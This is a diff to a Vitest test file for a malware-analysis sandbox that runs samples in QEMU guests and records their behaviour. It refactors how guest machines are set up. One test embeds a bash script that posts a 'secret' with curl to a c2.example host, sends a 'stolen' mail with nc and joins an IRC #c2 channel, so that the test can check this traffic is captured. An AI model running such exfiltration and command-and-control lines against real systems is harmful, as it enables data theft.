@@ -1,17 +1,12 @@
 import { createHash } from 'node:crypto';
-import { mkdtemp, readFile, rm } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { foldersFrom } from '../embedded/folders.ts';
-import { silent } from '../embedded/progress.ts';
+import { readFile } from 'node:fs/promises';
+import { afterAll, describe, expect, test } from 'vitest';
 import { analyse, type ResultBody } from '../sandbox-runner/analyse.ts';
 import { loadEngine } from '../sandbox-runner/engine.ts';
 import { allEnvironments } from '../sandbox-runner/machines/guests.ts';
-import { openMachines } from '../sandbox-runner/machines/open.ts';
-import type { QemuMachines } from '../sandbox-runner/machines/qemu-machines.ts';
 import type { ObservedEvent } from '../schema/jobs.ts';
 import { score } from '../subgraphs/verdicts/scoring.ts';
+import { guestMachines } from './guest-machines.ts';
 import { availableGuests } from './guests.ts';
 import { typeSamples } from './samples/types.ts';
 
@@ -21,21 +16,12 @@ const needing = (...environments: string[]) => test.skipIf(environments.some((na
 
 const engine = await loadEngine();
 const samples = await typeSamples();
-let folder: string;
-let machines: QemuMachines;
-beforeAll(async () => {
-  folder = await mkdtemp(join(tmpdir(), 'assay-environments-'));
-  ({ machines } = await openMachines({ ...foldersFrom(process.env), data: folder }, silent, offered));
-});
-afterAll(async () => {
-  await machines.close();
-  await engine.close();
-  await rm(folder, { recursive: true, force: true });
-});
+const machines = guestMachines(offered);
+afterAll(async () => await engine.close());
 
 const analysed = async (name: string, bytes?: Buffer, environment: string | null = null, runMsMax = 25_000) => {
   let finished: Extract<ResultBody, { kind: 'finished' }> | undefined;
-  await analyse(engine, machines, { fileName: name, runMsMax, environment }, bytes ?? samples.find((one) => one.name === name)!.bytes, (result) => {
+  await analyse(engine, machines(), { fileName: name, runMsMax, environment }, bytes ?? samples.find((one) => one.name === name)!.bytes, (result) => {
     if (result.kind === 'finished') finished = result;
     return Promise.resolve();
   });
@@ -45,7 +31,7 @@ const analysed = async (name: string, bytes?: Buffer, environment: string | null
 /** Command lines of all that was seen to run. */
 const ranIn = async (name: string, script: string): Promise<(string | undefined)[]> => {
   const events: ObservedEvent[] = [];
-  await analyse(engine, machines, { fileName: name, runMsMax: 25_000, environment: null }, Buffer.from(script), (result) => {
+  await analyse(engine, machines(), { fileName: name, runMsMax: 25_000, environment: null }, Buffer.from(script), (result) => {
     if (result.kind === 'events') events.push(...result.events);
     return Promise.resolve();
   });
@@ -56,7 +42,7 @@ describe('the environments', () => {
   test.for([
     ['tiny64', 'linux'], ['tiny32', 'linux'], ['a.pl', 'linux'], ['a.php', 'linux'], ['server.js', 'linux'], ['tiny32.exe', 'windows-10'], ['old.exe', 'windows-xp'], ['library.dll', 'windows-10'], ['installer.msi', 'windows-10'],
     ['a.vbs', 'windows-10'], ['a.wsf', 'windows-10'], ['a.lnk', 'windows-10'], ['program.jar', 'java'], ['a.docx', 'office'], ['package.deb', 'linux'], ['example.rpm', 'linux'],
-  ] as const)('%s runs in %s, to its end or to its time', { timeout: 120_000 }, async ([name, environment], { skip }) => {
+  ] as const)('%s runs in %s, to its end or to its time', async ([name, environment], { skip }) => {
     skip(!offered.includes(environment), `${environment} could not be made here`);
     const { detonations } = await analysed(name);
     expect(detonations[0]).toMatchObject({ environment, outcome: expect.stringMatching(/^(ENDED|TIMED_OUT)$/) as string });
@@ -106,7 +92,7 @@ describe('the environments', () => {
   needing('linux')('what a sample says over TLS, to a mail server and in a chat is heard', async () => {
     const script = '#!/bin/bash\ncurl -sS https://c2.example/steal -d secret=1\nprintf "EHLO x\\r\\nMAIL FROM:<a@b.example>\\r\\nRCPT TO:<d@e.example>\\r\\nDATA\\r\\nSubject: stolen\\r\\n\\r\\nbody\\r\\n.\\r\\nQUIT\\r\\n" | nc -w 3 mail.example 25\n(printf "NICK bot\\r\\nUSER bot 0 * :x\\r\\n"; sleep 1; printf "JOIN #c2\\r\\n"; sleep 1) | nc -w 4 irc.example 6667\n';
     const events: ObservedEvent[] = [];
-    await analyse(engine, machines, { fileName: 'talk.sh', runMsMax: 25_000, environment: null }, Buffer.from(script), (result) => {
+    await analyse(engine, machines(), { fileName: 'talk.sh', runMsMax: 25_000, environment: null }, Buffer.from(script), (result) => {
       if (result.kind === 'events') events.push(...result.events);
       return Promise.resolve();
     });
@@ -132,11 +118,11 @@ describe('the environments', () => {
   });
   needing('linux')('processes are told of while they run', async () => {
     const hints: string[] = [];
-    await analyse(engine, machines, { fileName: 'slow.sh', runMsMax: 25_000, environment: null }, Buffer.from('#!/bin/bash\nsleep 1.7\n'), () => Promise.resolve(), (hint) => hints.push(...(hint.processes ?? []).map((one) => one.commandLine)));
+    await analyse(engine, machines(), { fileName: 'slow.sh', runMsMax: 25_000, environment: null }, Buffer.from('#!/bin/bash\nsleep 1.7\n'), () => Promise.resolve(), (hint) => hints.push(...(hint.processes ?? []).map((one) => one.commandLine)));
     expect(hints).toContain('sleep 1.7');
   });
   test.each(['linux', 'windows-10', 'windows-xp', 'office'].filter((name) => offered.includes(name)))('%s was checked for what gives it away, and says so', (environment) => {
-    const { passed, total, seen } = machines.evasion(environment)!;
+    const { passed, total, seen } = machines().evasion(environment)!;
     expect(total).toBeGreaterThan(12);
     expect(passed + seen.length).toBe(total);
     for (const gone of ['dmi-strings', 'hypervisor-flag', 'documents', 'shell-history', 'our-files']) expect(seen.join('\n')).not.toContain(`${gone}:`);
